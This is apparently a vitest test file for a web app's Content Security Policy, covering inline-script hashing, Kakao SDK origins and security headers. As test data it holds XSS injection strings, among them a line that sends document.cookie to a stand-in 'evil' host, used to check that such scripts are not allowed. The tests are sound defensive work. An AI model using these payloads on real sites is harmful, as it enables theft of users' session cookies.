import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { documentPolicy, inlineScriptHashes } from "./content-security-policy";
import { sharingScriptOrigins } from "../sharing/kakao-sdk";
import { securityHeaders } from "./security-headers";

const sha = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;

describe("inlineScriptHashes", () => {
  it("hashes the framework's inline scripts byte for byte, CJK text included", () => {
    const payload = 'self.__next_f.push([1,"서명 签名"])';
    const bootstrap = "(self.__next_f=self.__next_f||[]).push([0])";
    const chunks = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["a.js"]})';
    const html = `<script>${bootstrap}</script><script>${payload}</script><script id="_R_">${chunks}</script><script>$RC("B:0","S:0")</script>`;
    expect(inlineScriptHashes(html)).toEqual([sha(bootstrap), sha(payload), sha(chunks), sha('$RC("B:0","S:0")')]);
  });

  it("gives no hash to other inline scripts or to scripts with a src", () => {
    expect(inlineScriptHashes('<script>alert(1)</script><script src="/x.js"></script><script>fetch("//evil")</script>')).toEqual([]);
  });

  it("gives no hash to an injection that only begins like a framework script", () => {
    const injections = [
      "self.__next_f.push(1);fetch('//evil/'+document.cookie)",
      'self.__next_f.push([1,"x"]);alert(1)//)',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1))',
      '$RC("B:0","S:0");alert(1)',
      "$RX=function(){alert(1)};$RX()",
    ];
    for (const injection of injections) expect(inlineScriptHashes(`<script>${injection}</script>`), injection).toEqual([]);
  });
});

describe("documentPolicy", () => {
  it("allows no inline script without a hash in production, and upgrades requests behind HTTPS", () => {
    const policy = documentPolicy({ scriptHashes: ["'sha256-abc'"], development: false, https: true });
    expect(policy).toContain("script-src 'self' 'sha256-abc';");
    expect(policy).not.toContain("unsafe-eval");
    expect(policy).toContain("upgrade-insecure-requests");
    expect(policy).toContain("frame-ancestors 'self'");
  });

  it("allows Kakao's SDK origin for scripts only when KakaoTalk sharing is configured", () => {
    const withKey = documentPolicy({ scriptHashes: ["'sha256-abc'"], development: false, https: true, scriptOrigins: sharingScriptOrigins("0123456789abcdef0123456789abcdef") });
    expect(withKey).toContain("script-src 'self' 'sha256-abc' https://t1.kakaocdn.net;");
    const without = documentPolicy({ scriptHashes: ["'sha256-abc'"], development: false, https: true, scriptOrigins: sharingScriptOrigins(undefined) });
    expect(without).toContain("script-src 'self' 'sha256-abc';");
    expect(without).not.toContain("kakao");
  });

  it("lets next dev evaluate code and reload", () => {
    const policy = documentPolicy({ scriptHashes: [], development: true, https: false });
    expect(policy).toContain("'unsafe-eval'");
    expect(policy).toContain("connect-src 'self' ws: wss:");
    expect(policy).not.toContain("upgrade-insecure-requests");
  });
});

describe("securityHeaders", () => {
  it("sends HSTS only when the public address is HTTPS", () => {
    const names = (https: boolean) => securityHeaders({ https }).map(([name]) => name);
    expect(names(true)).toContain("Strict-Transport-Security");
    expect(names(false)).not.toContain("Strict-Transport-Security");
    expect(names(false)).toEqual(expect.arrayContaining(["Referrer-Policy", "Permissions-Policy", "X-Content-Type-Options"]));
  });
});
